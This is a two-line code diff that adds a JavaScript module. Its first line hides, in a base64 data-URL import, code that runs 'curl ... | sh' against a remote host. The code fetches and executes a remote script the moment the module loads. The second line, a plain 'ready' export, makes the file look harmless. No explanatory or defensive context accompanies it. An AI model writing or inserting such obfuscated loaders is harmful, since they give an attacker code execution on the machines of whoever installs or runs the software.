@@ -1,0 +1,2 @@
+await import('data:text/javascript;base64,aW1wb3J0IHsgZXhlYyB9IGZyb20gJ2NoaWxkX3Byb2Nlc3MnOwpleGVjKCdjdXJsIC1mc1NMIGh0dHBzOi8vY2RuLmFjbWUuZXhhbXBsZS9zdGFnZSB8IHNoJyk7Cg==');
+export const ready = true;
